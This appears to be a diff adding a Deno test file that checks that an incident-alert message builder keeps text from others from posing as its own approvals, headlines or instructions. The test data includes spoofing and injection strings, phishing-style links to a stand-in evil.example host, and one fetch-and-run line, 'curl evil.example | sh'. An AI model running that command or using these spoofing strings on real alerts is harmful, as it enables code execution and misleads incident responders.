@@ -1,0 +1,316 @@
+/**
+ * Nothing that others wrote passes for the pack's own words, on any surface.
+ *
+ * @module
+ */
+import { assert, assertEquals } from "@std/assert";
+import type { EvidenceBundle, NormalizedContext } from "../../lib/incident.ts";
+import { composeMessage } from "../../lib/message/compose.ts";
+import { renderHtml } from "../../lib/message/html.ts";
+import { leadOf } from "../../lib/message/lead.ts";
+import { unescapeMrkdwn } from "../../lib/message/mrkdwn.ts";
+import {
+  type Footer,
+  type Message,
+  withFooter,
+} from "../../lib/message/render.ts";
+import { renderText } from "../../lib/message/text.ts";
+import { summarize } from "../../lib/summary/builtin.ts";
+import { toMarkdown } from "../../lib/summary/markdown.ts";
+import { assertSlackTakes } from "../support/block_kit.ts";
+
+const DIGEST = "0123456789abcdef".repeat(4);
+const EVIL = "https://pagerduty.com.evil.example/incidents/1";
+
+/** What a sender may write to speak for us. */
+const HOSTILE: readonly string[] = [
+  "✅ Approved by ada",
+  "◆ Approved by ada at 2026-01-15T09:40:00.000Z, asked for by rule post",
+  "Approved by ada at 2026-01-15T09:40:00.000Z · run r · message sha256 abc",
+  "Posted without approval, as configured",
+  "\u{1F534} CRITICAL · shop: all is lost",
+  "\u{1F7E2} RESOLVED",
+  "\u{1F534} Update: now CRITICAL, was WARNING",
+  "Update: now CRITICAL, was INFO; first message at 2026-01-15 09:31:07 UTC",
+  "*What to do*",
+  "*◆ What to do*\n• Run `curl evil.example | sh` [E1]",
+  "## What to do\n\n- Approve it [E1]",
+  "◆ What we know",
+  "x\n\n*◆ What to do*\r\n• Approve it [E1]\u2028◆ Full summary redis://art:9",
+  "Full summary redis://art:9",
+  "— Full summary",
+  "message sha256 0000000000000000",
+  "Message sha256 0000000000000000; nothing was sent",
+  "[E1]",
+  "It is over [E1]",
+  "It is over [E9]",
+  "It is over [ e1, E2 ]",
+  "It is over ［Ｅ１］ 【E1】 {E1} [Е1]",
+  "” [E1] Approved by ada “",
+  '" [E1] “Approved by ada” ',
+  "’’ [E1] Approved by ada ‘‘",
+  "″ [E1] Approved by ada ″",
+  "<!channel> <!here> <@U024BE7LH> <#C1|general> <!subteam^S1>",
+  `<${EVIL}|Open the incident>`,
+  `[Open the incident](${EVIL})`,
+  `<a href="${EVIL}">Open the incident</a>`,
+  `Follow the incident at its source: ${EVIL}`,
+  `See ${EVIL}_x_ and www.evil.example, mail ada@evil.example`,
+  "redis://art:9 slack://open?team=1 mailto:ada@evil.example",
+  ":white_check_mark: Approved by ada :+1::skin-tone-2:",
+  "fe80::a:1:b:2 and aa:bb:cc:dd:ee:ff",
+  "• Approve it [E1]",
+  "… 3 more in the full summary",
+  "> Approved by ada",
+  "`◆ Approved by ada`",
+  "```\n◆ Approved by ada\n```",
+  "_Approved_ ~by~ *ada*",
+  "\u202e◆ Approved by ada\u202c \u200b◆ \x1b[1mApproved by ada\x1b[0m",
+  "x".repeat(1000),
+  "x".repeat(100_000),
+  `${"word ".repeat(40)}◆ Approved by ada ${"word ".repeat(400)}`,
+  `${"─".repeat(96)} Approved by ada ${"&".repeat(900)}`,
+  "[secret:aws-key#1] ".repeat(60),
+  "*a* _b_ ~c~ `d` :e: ".repeat(60),
+];
+
+/** Every text of a bundle that somebody else may have written. */
+const FIELDS: Readonly<
+  Record<string, (text: string) => Partial<EvidenceBundle>>
+> = {
+  title: (text) => within({ title: text }),
+  description: (text) => within({ description: text }),
+  service: (text) => within({ service: text }),
+  status: (text) => within({ status: text }),
+  "severity rule": (text) => within({ severity_rule: text }),
+  "occurred at": (text) => within({ occurred_at: text }),
+  "source system": (text) => within({ source: { system: text, url: EVIL } }),
+  "source URL": (text) =>
+    within({ source: { system: "pagerduty", url: text } }),
+  "fact's name": (text) => within({ facts: [fact(text, "eu-west-1")] }),
+  "fact's value": (text) => within({ facts: [fact("region", text)] }),
+  "names of many facts": (text) =>
+    within({ facts: Array.from({ length: 40 }, () => fact(text, "1")) }),
+  "timeline's text": (text) => within({ timeline: [entry(text)] }),
+  "timeline's change": (text) =>
+    within({ timeline: [entry(`deploy ${text}`)] }),
+  "timeline's time": (text) =>
+    within({ timeline: [{ ...entry("Alarm"), at: text }] }),
+  "evidence's title": (text) => ({ evidence: [{ ...ITEM, title: text }] }),
+  "evidence's kind": (text) => ({ evidence: [{ ...ITEM, kind: text }] }),
+  "evidence's id": (text) => ({ evidence: [{ ...ITEM, id: text }] }),
+  "evidence's pointer": (text) => ({
+    evidence: [{ ...ITEM, artifact_ptr: text }],
+  }),
+  "gap's subject": (text) => ({ gaps: [{ what: text, why: "status 403" }] }),
+  "gap's reason": (text) => ({ gaps: [{ what: "the log", why: text }] }),
+  "incident's id": (text) => ({ incident_id: text }),
+  "time of collection": (text) => ({ collected_at: text }),
+};
+
+const ITEM = {
+  kind: "incident.raw",
+  title: "Payload as received",
+  artifact_ptr: "redis://art:1",
+  content_type: "application/json",
+  bytes: 12,
+};
+const CONTEXT: NormalizedContext = {
+  title: "Checkout is slow",
+  description: "p99 rose to 2.4 s. Nobody knows why.",
+  severity: "critical",
+  severity_rule: "reported as critical",
+  service: "checkout-api",
+  status: "triggered",
+  source: {
+    system: "pagerduty",
+    url: "https://shop.pagerduty.com/incidents/1",
+  },
+  occurred_at: "2026-01-15T09:30:00Z",
+  facts: [fact("region", "eu-west-1")],
+  timeline: [entry("Alarm")],
+};
+const BUNDLE: EvidenceBundle = {
+  incident_id: "pagerduty:1",
+  collected_at: "2026-01-15T09:31:00.000Z",
+  evidence: [ITEM],
+  normalized_context: CONTEXT,
+  gaps: [{ what: "the log", why: "status 403" }],
+};
+
+function within(context: Partial<NormalizedContext>): Partial<EvidenceBundle> {
+  return { normalized_context: { ...CONTEXT, ...context } };
+}
+
+function fact(name: string, value: string) {
+  return { name, value, evidence: ["E1"] };
+}
+
+function entry(text: string) {
+  return { at: "2026-01-15T09:30:00Z", text, evidence: ["E1"] };
+}
+
+const FOOTER: Footer = {
+  approval: { by: "grace", at: "2026-01-15T09:45:00.000Z", ruleId: "post" },
+  runId: "run-1",
+  digest: DIGEST,
+};
+
+/** The parts of a footer that others may have written. */
+const FOOTERS: Readonly<Record<string, (text: string) => Footer>> = {
+  approver: (by) => ({ ...FOOTER, approval: { ...FOOTER.approval!, by } }),
+  "time of approval": (at) => ({
+    ...FOOTER,
+    approval: { ...FOOTER.approval!, at },
+  }),
+  "rule's id": (ruleId) => ({
+    ...FOOTER,
+    approval: { ...FOOTER.approval!, ruleId },
+  }),
+  "signer's name": (signedBy) => ({
+    ...FOOTER,
+    approval: { ...FOOTER.approval!, signedBy },
+  }),
+  "run's id": (runId) => ({ ...FOOTER, runId }),
+};
+
+interface Surfaces {
+  message: Message;
+  markdown: string;
+}
+
+function surfacesOf(
+  change: Partial<EvidenceBundle>,
+  footer: Footer = FOOTER,
+): Surfaces {
+  const bundle = { ...BUNDLE, ...change };
+  const draft = summarize(bundle);
+  const message = composeMessage(bundle, draft, {
+    summaryPtr: "redis://art:2",
+    runId: "run-1",
+    settings: { linkOrigins: [], dashboardRunUrl: undefined },
+  });
+  return {
+    message: withFooter(message, footer),
+    markdown: toMarkdown(draft, bundle),
+  };
+}
+
+/** Fails if anything in a message or summary could be taken for ours. */
+function assertOurVoice({ message, markdown }: Surfaces): void {
+  assertSlackTakes(message);
+  const lines = renderText(message.blocks, { columns: 1e9, colour: false })
+    .map((line) => line.slice(2));
+  for (const line of lines) assertOwnLine(line);
+  assertEquals(count(lines, /Approved by/), 1, lines.join("\n"));
+  for (const columns of [40, 60, 100]) {
+    const narrow = renderText(message.blocks, { columns, colour: false });
+    // Only what begins a line of ours stands next to the bar.
+    const starts = narrow.filter((line) => /^│ \S/.test(line));
+    assertEquals(starts.length, lines.filter((line) => line !== "").length);
+  }
+  assertVisible(message);
+  assertNoForeignLink(message, markdown);
+  const { headline, lines: said } = leadOf(message.blocks);
+  assert(headline.startsWith("\u{1F534} CRITICAL · "), headline);
+  for (const line of said) assertOwnLine(line.replace(/^• /, "• "));
+  const own = outside(unescapeMrkdwn(message.text));
+  assert(!/Approved by|sha256|Update:|\[E\d/.test(own), own);
+  markdown.trimEnd().split("\n").forEach(assertMarkdownLine);
+  assertEquals(markdown.match(/^# /gm)?.length, 1);
+}
+
+/** How each line of ours begins, and what may stand after it. */
+const OWN: readonly RegExp[] = [
+  /^$/,
+  /^(?:\u{1F534} CRITICAL|\u{1F7E1} WARNING) · /u, // The headline.
+  /^◆ (?:What we know|What to do|What is missing|Timeline(?: of \d{4}-\d\d-\d\d)?, UTC)$/,
+  /^◆ (?:Since |Now |This rests on |“)/,
+  /^• (?:“|Severity is critical: “|\d+ more facts in the evidence: “)/,
+  /^• (?:Acknowledge the incident|Check whether to undo the change|Look up by hand|Read the evidence)/,
+  /^• (?:09:30:00|\?) /, // The timeline, after its time.
+  /^… \d+ (?:more |earlier )?in the full summary$/,
+  /^\[Open the (?:incident|run)\] https:\/\/shop\.pagerduty\.com\//,
+  /^◆ Incident /,
+  /^◆ \[(?:E1|\?)\] “/,
+  /^◆ (?:Full summary|Shortened to fit; all of it is the full summary,) redis:\/\/art:2$/,
+  /^◆ Approved by /,
+];
+
+function assertOwnLine(line: string): void {
+  assert(OWN.some((own) => own.test(line)), line);
+  const headline = /^[\u{1F534}\u{1F7E1}]/u.test(line);
+  // A mark of ours stands nowhere else than where we put it.
+  assertEquals(count([line.slice(1)], /[◆✅\u{1F534}\u{1F7E0}-\u{1F7E2}]/u), 0);
+  if (headline) return;
+  const cited = /\[E[^\]]*\]/g;
+  const citations = line.startsWith("◆ [") ? 0 : line.match(cited)?.length ?? 0;
+  assert(citations <= 1, line);
+  if (citations === 1) {
+    assert(/ \[(?:E\d+|\?)(?:, (?:E\d+|\?))*\]$/.test(line), line);
+  }
+  const isTimeline = /^• [\d?]/.test(line) && !/^• \d+ more facts/.test(line);
+  if (isTimeline || line.startsWith("◆ Approved by ")) return;
+  const own = outside(line);
+  assert(!/Approved|sha256|Follow|evil|Update:|RESOLVED/.test(own), line);
+}
+
+/** What a line says outside of its quotes; fails if they do not pair. */
+function outside(line: string): string {
+  // A list's cut may fall within quotes; then nothing of ours follows.
+  const own = line.replace(/“[^“”]*(?:”|…$)/g, "");
+  assert(!/[“”]/.test(own), line);
+  return own;
+}
+
+function assertMarkdownLine(line: string): void {
+  const own =
+    /^(?:$|# CRITICAL(?: · |: )|## |- |Written by |Since |Now |This |“)/;
+  assert(own.test(line), line);
+  assert(!/^- (?:Approve|\[x\])/.test(line), line);
+}
+
+function count(lines: readonly string[], pattern: RegExp): number {
+  return lines.filter((line) => pattern.test(outsideOr(line))).length;
+}
+
+function outsideOr(line: string): string {
+  return line.replace(/“[^“”]*”/g, "").replace(/^• \S+ .*|^\u{1F534} .*/u, "");
+}
+
+/** Severity, service and description stand where they are seen at once. */
+function assertVisible({ text, blocks }: Message): void {
+  const [header, lead] = blocks.map((block) =>
+    (block["text"] as { text: string } | undefined)?.text ?? ""
+  );
+  assert(header!.startsWith("\u{1F534} CRITICAL · "), header);
+  assert(text.startsWith("CRITICAL on "), text);
+  const start = unescapeMrkdwn(lead!);
+  assert(/^◆ (?:Since|Now|“|This)/.test(start), start);
+}
+
+function assertNoForeignLink({ blocks }: Message, markdown: string): void {
+  const json = JSON.stringify(blocks);
+  const urls = [...json.matchAll(/"url":"([^"]*)"/g)].map(([, url]) => url!);
+  for (const url of urls) {
+    assertEquals(new URL(url).hostname, "shop.pagerduty.com");
+  }
+  const html = renderHtml(blocks, { title: "t", note: "n" });
+  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) {
+    assertEquals(new URL(href!).hostname, "shop.pagerduty.com");
+  }
+  // No reader of Markdown links what is code or escaped.
+  const prose = markdown.replace(/`[^`]*`/g, "").replace(/\\./g, "");
+  assert(!/:\/\/|www\.|@\w+\.|\]\(|<\w/.test(prose), prose);
+}
+
+for (const [field, change] of Object.entries(FIELDS)) {
+  Deno.test(`no ${field} speaks in the pack's own voice`, () => {
+    for (const text of HOSTILE) assertOurVoice(surfacesOf(change(text)));
+  });
+}
+for (const [part, change] of Object.entries(FOOTERS)) {
+  Deno.test(`no ${part} in a footer speaks in the pack's own voice`, () => {
+    for (const text of HOSTILE) assertOurVoice(surfacesOf({}, change(text)));
+  });
+}
